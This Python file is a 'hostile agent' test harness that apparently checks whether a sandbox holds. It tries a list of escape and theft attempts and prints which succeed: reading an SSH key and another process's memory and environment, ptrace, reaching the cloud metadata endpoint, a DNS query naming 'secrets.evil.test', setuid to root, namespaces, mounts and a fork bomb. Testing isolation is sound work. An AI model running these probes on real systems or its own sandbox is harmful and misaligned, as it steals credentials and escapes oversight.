"""A hostile agent, which tries all attacks and prints which of them worked."""

from __future__ import annotations

import ctypes
import errno
import json
import os
import resource
import socket
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

libc = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH = 16
CLONE_NEWUSER = 0x10000000
CLONE_NEWNS = 0x20000
MS_BIND = 4096


def call(result: int) -> bool:
    """Raise OSError for a failed system call."""
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return True


def connect(family: int, address: Any) -> bool:
    """Connect to an address."""
    with socket.socket(family) as client:
        client.settimeout(2)
        client.connect(address)
    return True


def send(port: int) -> bool:
    """Send a query to a name server of the host; the test looks for it."""
    query = b"\x12\x34\x01\0\0\1\0\0\0\0\0\0\7secrets\4evil\4test\0\0\1\0\1"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.sendto(query, ("127.0.0.1", port))
    return False


def resolve() -> bool:
    """Resolve a name by the system's resolver."""
    return bool(socket.getaddrinfo("secrets.example.com", 443))


def read(path: str) -> bool:
    """Read a file."""
    return bool(Path(path).read_bytes())


def write(path: str) -> bool:
    """Open a file for appending."""
    with Path(path).open("a"):
        return True


def memory_of(pid: int) -> bool:
    """Read another process's memory."""
    with Path(f"/proc/{pid}/mem").open("rb") as file:
        for line in Path(f"/proc/{pid}/maps").read_text().splitlines():
            file.seek(int(line.split("-")[0], 16))
            return bool(file.read(16))
    return False


def link_into(path: str) -> bool:
    """Create a hard link to an outside file in the clone."""
    os.link(path, "stolen")
    return True


def signal_to(pid: int) -> bool:
    """Send signal 0."""
    os.kill(pid, 0)
    return True


def become_root() -> bool:
    """Change to root."""
    os.setuid(0)
    return True


def own_user_namespace() -> bool:
    """Create a user namespace, which exposes more of the kernel."""
    return call(libc.unshare(CLONE_NEWUSER | CLONE_NEWNS))


def mount_over() -> bool:
    """Mount a folder over another."""
    return call(libc.mount(b".", b"/mnt", None, MS_BIND, None))


def multipath() -> socket.socket:
    """Return a socket of multipath TCP, whose connections Landlock does not limit."""
    return socket.socket(socket.AF_INET, socket.SOCK_STREAM, socket.IPPROTO_MPTCP)


def connect_multipath(port: int) -> bool:
    """Connect to a port of the host."""
    with multipath() as client:
        client.settimeout(2)
        client.connect(("127.0.0.1", port))
    return True


def kernel_interfaces() -> bool:
    """Use interfaces of the kernel that no program of a run needs; raises if all are refused."""
    key = b"draftsman"
    arm = os.uname().machine == "aarch64"
    buffer = ctypes.create_string_buffer(256)
    interfaces: dict[str, Callable[[], int]] = {
        "keyring": lambda: libc.syscall(217 if arm else 248, b"user", key, key, len(key), -2),
        "io_uring": lambda: libc.syscall(425, 4, buffer),
        "namespace": lambda: libc.unshare(0),
        "personality": lambda: libc.personality(0x40000),  # ADDR_NO_RANDOMIZE
        "process_vm": lambda: libc.syscall(
            270 if arm else 310, os.getpid(), buffer, 0, buffer, 0, 0
        ),
        "terminal": lambda: libc.ioctl(0, 0x5412, b"x"),  # TIOCSTI
        "vsock": lambda: libc.socket(40, 1, 0),
        "crypto": lambda: libc.socket(38, 5, 0),  # AF_ALG
    }
    refused = errno.EPERM, errno.ENOSYS, errno.EAFNOSUPPORT
    open_ones = []
    for name, use in interfaces.items():
        if use() >= 0 or ctypes.get_errno() not in refused:
            open_ones.append(name)
    if open_ones:
        return True
    raise PermissionError("all are refused")


def many_processes() -> bool:
    """Start far more processes than the limit."""
    children: list[int] = []
    try:
        for _ in range(200):
            pid = os.fork()
            if pid == 0:
                os.read(0, 1)
                os._exit(0)
            children.append(pid)
    finally:
        for pid in children:
            os.kill(pid, 9)
            os.waitpid(pid, 0)
    return True


def large_file() -> bool:
    """Write a file beyond the limit."""
    with Path("large").open("wb") as file:
        os.posix_fallocate(file.fileno(), 0, 64 << 20)
    return True


def much_memory() -> bool:
    """Allocate more memory than the limit."""
    return len(bytearray(2 << 30)) > 0


def raise_limit() -> bool:
    """Raise a hard limit again."""
    _, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (hard * 2, hard * 2))
    return True


def set_user_id_program() -> bool:
    """Gain privileges with a set-uid program."""
    completed = subprocess.run(["su", "-c", "id -u"], capture_output=True, check=False, timeout=10)
    return completed.stdout.strip() == b"0"


def inherited() -> bool:
    """Find open descriptors other than the standard streams."""
    for number in range(3, 1024):
        try:
            os.fstat(number)
        except OSError:
            continue
        return True
    return False


def main(targets: dict[str, Any]) -> None:
    """Try all attacks and print their results."""
    pid = targets["pid"]
    tries: dict[str, Callable[[], bool]] = {
        "ssh_key": lambda: read(targets["ssh_key"]),
        "other_clone": lambda: read(targets["other_clone"]),
        "worker_environ": lambda: read(f"/proc/{pid}/environ"),
        "worker_memory": lambda: memory_of(pid),
        "worker_cwd": lambda: bool(os.listdir(f"/proc/{pid}/cwd/")),  # noqa: PTH208
        "trace": lambda: call(libc.ptrace(PTRACE_ATTACH, pid, 0, 0)),
        "signal": lambda: signal_to(pid),
        "unix_socket": lambda: connect(socket.AF_UNIX, targets["unix_socket"]),
        "abstract_socket": lambda: connect(socket.AF_UNIX, "\0" + targets["abstract_socket"]),
        "tcp_port": lambda: connect(socket.AF_INET, ("127.0.0.1", targets["tcp_port"])),
        "multipath": lambda: connect_multipath(targets["tcp_port"]),
        "internet": lambda: connect(socket.AF_INET, ("192.0.2.1", 443)),
        "metadata": lambda: connect(socket.AF_INET, ("169.254.169.254", 80)),
        "udp": lambda: send(targets["udp_port"]),
        "resolve": resolve,
        "write_outside": lambda: write(targets["ssh_key"]),
        "write_program": lambda: write(str(Path(sys.prefix) / "planted")),
        "write_system": lambda: write("/usr/planted"),
        "hard_link": lambda: link_into(targets["ssh_key"]),
        "root": become_root,
        "is_root": lambda: os.getuid() == 0,
        "set_uid": set_user_id_program,
        "user_namespace": own_user_namespace,
        "mount": mount_over,
        "fork_bomb": many_processes,
        "file_size": large_file,
        "memory": much_memory,
        "limits": raise_limit,
        "descriptors": inherited,
        "secrets": lambda: "hunter2" in str(dict(os.environ)),
        "interfaces": kernel_interfaces,  # the last: it opens descriptors where it works
    }
    results = {}
    for name, attempt in tries.items():
        try:
            results[name] = "worked" if attempt() else "failed"
        except (OSError, ValueError, MemoryError, subprocess.SubprocessError) as error:
            results[name] = f"failed: {error}"
    print(json.dumps(results), flush=True)  # noqa: T201


if __name__ == "__main__":
    main(json.loads(sys.argv[1]))
